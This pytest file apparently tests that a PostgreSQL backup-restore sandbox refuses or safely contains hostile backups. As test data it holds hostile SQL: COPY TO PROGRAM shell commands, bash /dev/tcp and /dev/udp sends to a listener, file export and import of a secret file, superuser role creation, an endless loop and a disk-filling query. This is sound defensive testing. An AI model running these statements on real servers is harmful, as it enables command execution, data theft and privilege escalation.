"""A hostile backup is restored, or refused with a clear error, and nothing outside of its database is another."""

from __future__ import annotations

import hashlib
import os
import shutil
import signal
import tempfile
import threading
import time
from contextlib import suppress
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING, Any

import psutil
import psycopg
import pytest

from merge import catalog, profile
from merge.errors import BackupError, BlockedError, HomologationError
from sandbox import room
from sandbox.console import Reporter
from sandbox.intake import inspect
from sandbox.preflight import Decisions, Preflight, all_checks
from sandbox.rehearsal import DATABASE, Rehearsal, Source
from sandbox.restore import restore_central
from sandbox.runs import Run
from sandbox.source import load_source, owner_of, restore_schema
from tests.hostile import FILES, HONEY, HOOKS, PASSWORD, Maker, Traps
from tests.witness import Listener, Witness, make_witness

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandbox.server import Server

SECONDS = 60
"""No hostile file may take longer than this to be refused."""


@pytest.fixture(scope="module")
def witness(server: Server) -> Iterator[Witness]:
    folder = Path(tempfile.mkdtemp(prefix="homolog-traps-"))
    folder.chmod(0o777)
    (folder / "honey").write_text(HONEY)
    (folder / "honey").chmod(0o644)
    listener = Listener("127.0.0.1")

    def files() -> dict[str, str]:
        return {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in folder.iterdir()}

    def programs() -> list[str]:
        found = (p.info for p in psutil.process_iter(["cmdline"]))
        return [line for info in found if str(folder) in (line := " ".join(info["cmdline"] or ()))]

    make_witness(server)
    yield Witness(server, Traps(str(folder), listener.host, listener.port), listener, files, programs)
    listener.close()
    server.drop_database("witness")
    shutil.rmtree(folder)


@pytest.fixture(scope="module")
def target(server: Server, witness: Witness, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """A central that is nobody's enemy."""
    folder = tmp_path_factory.mktemp("central")
    path = Maker(server, folder, Traps("/nowhere", "127.0.0.1", 9)).dump("DROP FUNCTION attack_fired")
    server.drop_database("target")
    restore_central(server, inspect(path, work=folder / "work"), "target")
    yield "target"
    server.drop_database("target")


@pytest.fixture
def maker(server: Server, witness: Witness, tmp_path: Path) -> Maker:
    return Maker(server, tmp_path, witness.traps)


def as_central(server: Server, path: Path, work: Path) -> None:
    """Restore it whole, and read its catalog as a rehearsal does."""
    restore_central(server, inspect(path, work=work), "restored", jobs=2, on_progress=lambda *_: None)
    with server.connect("restored", "homolog_central") as conn:
        assert catalog.read(conn, "public").tables
        assert conn.execute("SELECT count(*) FROM public.tb_unit").fetchone() != (0,)


def as_source(server: Server, path: Path, work: Path) -> None:
    """Read its schema in a database of its own, and bring its rows beside the central's."""
    backup = inspect(path, work=work)
    database = restore_schema(server, backup, number=3, jobs=2)
    with server.connect(database, owner_of(3)) as conn:
        catalog.read(conn, "public")
    loaded = load_source(server, backup, number=3, target="target", jobs=2)
    assert "tb_unit" in loaded.rows


def clean(server: Server) -> None:
    for name in ("restored", "source_3", "source_3_data"):
        server.drop_database(name)
        assert not server.has_database(name)


def empty(server: Server, target: str) -> None:
    """Take away again what a source brought."""
    with server.connect(target) as conn:
        conn.execute("DROP SCHEMA IF EXISTS src_3, homolog CASCADE")
        conn.execute("SELECT count(lo_unlink(oid)) FROM pg_largeobject_metadata")


def outcome(work: Any, *args: Any, codes: tuple[int, ...] = (3, 4)) -> str:
    """What becomes of a file: an error must be one that a user can read, with its evidence."""
    started = time.monotonic()
    error = _error_of(work, *args)
    assert time.monotonic() - started < SECONDS
    if error is None:
        return "restored"
    assert error.exit_code in codes, error
    assert isinstance(error, BackupError) or error.details, error
    assert error.evidence
    assert HONEY not in " ".join([error.what, *error.details])
    return "refused"


def _error_of(work: Any, *args: Any) -> HomologationError | None:
    try:
        work(*args)
    except HomologationError as ex:
        return ex
    return None


@pytest.mark.parametrize("name", FILES)
def test_nothing_outside_is_touched(server: Server, witness: Witness, target: str, maker: Maker, name: str) -> None:
    """As a central, restored whole; and as a source, whose rows come beside those of another central."""
    file = FILES[name]
    path = file.make(maker)
    try:
        with witness.watched(target):
            central = outcome(as_central, server, path, maker.folder / "work")
            if central == "restored":
                assert not witness.tells_honey("restored")
            else:
                assert not server.has_database("restored")
            clean(server)
            source = outcome(as_source, server, path, maker.folder / "work")
            assert not witness.tells_honey(target)
            empty(server, target)
        assert central == file.central or file.central == "either"
        assert source == file.source or file.source == "either"
    finally:
        empty(server, target)
        clean(server)


# The whole rehearsal

PROFILE = """
[application]
name = "small"
title = "small"

[[rule]]
tables = ["tb_unit"]
role = "entity"
match = [["code"]]
reason = "units by code"
evidence = "seen"

[[rule]]
tables = ["tb_*"]
role = "event"
reason = "comes"
evidence = "seen"
"""


@pytest.fixture
def rehearsal(server: Server, witness: Witness, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Rehearsal]:
    monkeypatch.setenv("HOMOLOG_RUNS", str(tmp_path / "runs"))
    name = tmp_path / "small.toml"
    name.write_text(PROFILE)
    (tmp_path / "small.checks.toml").write_text("")
    run = Run.create()
    asked = Preflight(run, all_checks(str(name)), Decisions())
    yield Rehearsal(run, Reporter(), server, profile.load(str(name)), 2, asked)
    run.unlock()
    clean(server)
    for database in (DATABASE, "source_1", "source_1_data"):
        server.drop_database(database)


def rehearse(rehearsal: Rehearsal, path: Path) -> None:
    """Merge the backup into itself, and prove all."""
    work = rehearsal.run.folder / "work"
    plan, found = rehearsal.prepare_central(inspect(path, work=work / "central"))
    rehearsal.merge(plan, found, Source(1, "source", inspect(path, work=work / "source")))
    rehearsal.prove_central(plan, [1])
    rehearsal.check_merged(plan, [1])
    handed = rehearsal.connect()
    with handed as conn:
        assert conn.execute("SELECT count(*), max(name::text || mood::text) FROM public.tb_person").fetchone()


MEDDLES = ("trigger", "rule", "operators")
"""Hooks that change what is written or read, so that a check or the proof finds something wrong."""
QUIET = ";".join(change for name, change in HOOKS.items() if name not in MEDDLES)


@pytest.mark.parametrize("name", ["quiet", *MEDDLES])
def test_rehearsal(witness: Witness, maker: Maker, rehearsal: Rehearsal, name: str) -> None:
    """No query of the baseline, of the checks, of the merge and of the proofs runs the central's code as superuser."""
    with witness.watched():
        became = outcome(rehearse, rehearsal, maker.dump(HOOKS.get(name, QUIET)), codes=(3, 4, 6))
        assert not witness.tells_honey(DATABASE)
    assert became == ("restored" if name == "quiet" else "refused")


# What takes time or room


ENDLESS = "DO $$BEGIN LOOP PERFORM 1; END LOOP; END$$;"
FILLS = "CREATE TABLE public.filler AS SELECT repeat(md5(i::text), 30) FROM generate_series(1, 1000000000000) i;"


def _made(maker: Maker, statement: str, form: str) -> Path:
    if form == "script":
        return maker.script(statement)
    return maker.edited(lambda toc, traps: toc.entry("COMMENT").update(defn=statement + "\n"))


@pytest.mark.parametrize("form", ["script", "archive"])
def test_what_never_ends_can_be_interrupted(server: Server, maker: Maker, form: str) -> None:
    backup = inspect(_made(maker, ENDLESS, form), work=maker.folder / "work")
    timer = threading.Timer(2, os.kill, [os.getpid(), signal.SIGINT])
    timer.start()
    started = time.monotonic()
    with pytest.raises(KeyboardInterrupt):
        restore_central(server, backup, "restored", jobs=2)
    assert time.monotonic() - started < 30
    assert not server.has_database("restored")
    with server.connect("postgres") as conn:
        assert conn.execute("SELECT 1 FROM pg_stat_activity WHERE usename = 'homolog_central'").fetchone() is None


@pytest.mark.parametrize("form", ["script", "archive"])
def test_what_fills_the_disk_is_ended(server: Server, maker: Maker, form: str, monkeypatch: pytest.MonkeyPatch) -> None:
    backup = inspect(_made(maker, FILLS, form), work=maker.folder / "work")
    free = shutil.disk_usage(server.place).free
    monkeypatch.setattr(room, "KEPT_FREE", free - (200 << 20))
    with pytest.raises(BackupError, match="disco") as caught:
        restore_central(server, backup, "restored", jobs=2)
    assert caught.value.evidence == str(backup.path)
    assert not server.has_database("restored")


# That these tests would tell


PROGRAM = "COPY (SELECT 1) TO PROGRAM 'touch {d}/program'"
EXPLOITS = ("check", "constant in an index", "predicate", "statistics", "cast", "operators")
"""Hooks that were run by the superuser once: what the baseline, the checks and the proofs ask calls them."""


@pytest.mark.parametrize("name", EXPLOITS)
def test_a_superuser_would_run_it(
    witness: Witness, maker: Maker, rehearsal: Rehearsal, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The same rehearsal as it would be if the baseline and the proofs connected as the superuser."""
    path = replace(maker, traps=replace(witness.traps, only=PROGRAM)).dump(HOOKS[name])
    monkeypatch.setattr(Rehearsal, "connect", lambda self: self.server.connect(DATABASE))
    with suppress(BlockedError):
        rehearse(rehearsal, path)
    mark = Path(witness.traps.folder, "program")
    assert mark.exists()
    mark.unlink()


EFFECTS = {
    "files: program": ("files", "COPY (SELECT 1) TO PROGRAM 'touch {d}/program'"),
    "files: copy": ("files", "COPY (SELECT 1) TO '{d}/copied'"),
    "files: export": (
        "files",
        "SELECT lo_from_bytea(4711, 'x'); SELECT lo_export(4711, '{d}/exported'); --SELECT lo_unlink(4711)",
    ),
    "came: tcp": ("came", "COPY (SELECT 1) TO PROGRAM 'bash -c \"echo x > /dev/tcp/{host}/{port}\"'"),
    "came: udp": ("came", "COPY (SELECT 1) TO PROGRAM 'bash -c \"echo x > /dev/udp/{host}/{port}\"'"),
    "programs": ("programs", "COPY (SELECT 1) TO PROGRAM 'cat > /dev/null; (sleep 5; : {d}) > /dev/null 2>&1 &'"),
    "roles": ("roles", "CREATE ROLE intruder SUPERUSER; --DROP ROLE intruder"),
    "members": ("members", "GRANT homolog_admin TO hostile_maker; --REVOKE homolog_admin FROM hostile_maker"),
    "settings: role": ("settings", "ALTER ROLE homolog_admin SET work_mem = 999; --ALTER ROLE homolog_admin RESET ALL"),
    "settings: database": ("settings", "ALTER DATABASE witness SET work_mem = 999; --ALTER DATABASE witness RESET ALL"),
    "databases": ("databases", "COMMENT ON DATABASE postgres IS 'intruder'; --COMMENT ON DATABASE postgres IS NULL"),
    "file": ("file", "ALTER SYSTEM SET work_mem = 999; --ALTER SYSTEM RESET ALL"),
}


@pytest.mark.parametrize("name", EFFECTS)
def test_each_effect_is_seen(server: Server, witness: Witness, name: str) -> None:
    """What `attack` tries is found when the superuser does it."""
    where, statement = EFFECTS[name]
    attack, _, undo = statement.format(d=witness.traps.folder, host=witness.traps.host, port=witness.traps.port
                                       ).partition("; --")  # fmt: skip
    before = witness.state()
    with server.connect("postgres") as conn:
        conn.execute(attack.encode())
        time.sleep(0.2)
        changed = witness.changed(before)
        conn.execute(undo.encode())
    for path in Path(witness.traps.folder).iterdir():
        if path.name != "honey":
            path.unlink()
    assert where in [found.partition(":")[0] for found in changed]


def test_secrets_and_sessions_are_seen(server: Server, witness: Witness) -> None:
    """A password that is known, a session that is ended, and a file that was read."""
    with server.connect("postgres") as conn:
        conn.execute(f"ALTER ROLE hostile_maker PASSWORD '{PASSWORD}'".encode())
        assert witness.open_to_intruders() == ["hostile_maker"]
        server.create_role("hostile_maker")
        assert witness.open_to_intruders() == []
        with pytest.raises(psycopg.OperationalError), witness.watched():
            conn.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE application_name = 'witness'")
    server.create_database("restored", "hostile_maker")
    with server.connect("restored") as conn:
        conn.execute(f"SELECT lo_import('{witness.traps.folder}/honey')".encode())
    assert witness.tells_honey("restored")
    server.drop_database("restored")
